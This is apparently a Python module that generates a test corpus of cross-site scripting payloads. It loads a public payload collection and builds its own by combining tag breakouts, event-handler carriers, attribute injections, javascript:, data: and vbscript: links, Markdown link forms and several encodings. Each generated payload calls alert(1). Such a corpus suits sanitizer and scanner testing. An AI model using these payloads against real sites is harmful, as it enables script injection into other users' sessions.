"""Texts made to run in a page: a public collection, and those that a generator of our own makes."""

import html
from itertools import product
from urllib.parse import quote

from brs_kb.payloads import FULL_PAYLOAD_DATABASE

# Said once by every vector of ours, so that a page that runs one can be seen to.
CALL = "alert(1)"

_WAYS_OUT = ("", '">', "'>", "</title>", "</script>", "</textarea>", "</style>", "-->", "]]>", "\\u003c/script>", "}}")
_CARRIERS = (
    "<script>{call}</script>",
    "<ScRiPt x>{call}</sCrIpT >",
    "<img src=x onerror={call}>",
    "<img/src='x'/onerror='{call}'>",
    '<img src="x" onload="0" onerror="{call}">',
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{call}'><text y=20>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror={call}></style></mtext></math>",
    "<math href='javascript:{call}'>x</math>",
    "<details open ontoggle={call}>x</details>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}><option>x</select>",
    "<video><source onerror={call}></video>",
    "<video src=x onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<body onload={call}>",
    "<iframe src='javascript:{call}'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.{call}&lt;/script&gt;'></iframe>",
    "<object data='javascript:{call}'></object>",
    "<embed src='javascript:{call}'>",
    "<form action='javascript:{call}'><button>x</button></form>",
    "<button formaction='javascript:{call}' form=f>x</button><form id=f></form>",
    "<a href='javascript:{call}'>x</a>",
    "<a href=' &#1;javascript:{call}'>x</a>",
    "<a href='java&#9;script:{call}'>x</a>",
    "<a href='&#106;avascript&colon;{call}'>x</a>",
    "<p onmouseover={call}>x</p>",
    "<p onclick={call}>x</p>",
    "<p tabindex=1 onfocus={call}>x</p>",
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={call}>x</p>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href='https://outside.example/'>",
    "<link rel=stylesheet href='https://outside.example/x.css'>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'></noscript>",
    "<template><img src=x onerror={call}></template>",
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{call}</x:script>",
)
_IN_ATTRIBUTES = (
    '" onfocus={call} autofocus x="',
    "' onfocus={call} autofocus x='",
    '" onmouseover="{call}',
    "' onclick='{call}",
    "` onerror={call} `",
    '"><img src=x onerror={call}>',
)
_LINKS = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "javascript://%0a{call}",
    "javascript&colon;{call}",
    "&#x6A;avascript:{call}",
    "java\tscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{call}",
    "//outside.example/{call}",
    "https:javascript:{call}",
    "https://example.org/'onmouseover='{call}",
    'https://example.org/"onmouseover="{call}',
    'https://example.org/"><script>{call}</script>',
)
_MARKDOWN = (
    "[x]({link})",
    "[x](<{link}>)",
    "![x]({link})",
    "[x][1]\n\n[1]: {link}",
    "<{link}>",
    '[x](https://example.org/ "{link}")',
    "[![x]({link})]({link})",
    "# [x]({link})",
)
_CODED = (str, html.escape, lambda text: "".join(f"&#{ord(letter)};" for letter in text), quote)


def public_vectors() -> tuple[str, ...]:
    """The vectors of the brs-kb collection (PyPI, MIT), each once."""
    return tuple(sorted({entry.payload for entry in FULL_PAYLOAD_DATABASE.values() if entry.payload.strip()}))


def generated_vectors() -> tuple[str, ...]:
    """Carriers of script, by each way out of where a text may stand, in four codings."""
    plain = [carrier.format(call=CALL) for carrier in (*_CARRIERS, *_IN_ATTRIBUTES)]
    out = [way + text for way, text in product(_WAYS_OUT, plain)]
    coded = [code(text) for code, text in product(_CODED, plain)]
    return tuple(dict.fromkeys((*out, *coded, *links(), *markdown())))


def links() -> tuple[str, ...]:
    """Addresses that lead to script, or outside."""
    return tuple(link.format(call=CALL) for link in _LINKS)


def markdown() -> tuple[str, ...]:
    """The same addresses in CommonMark's ways to write a link."""
    return tuple(form.format(link=link) for form, link in product(_MARKDOWN, links()))
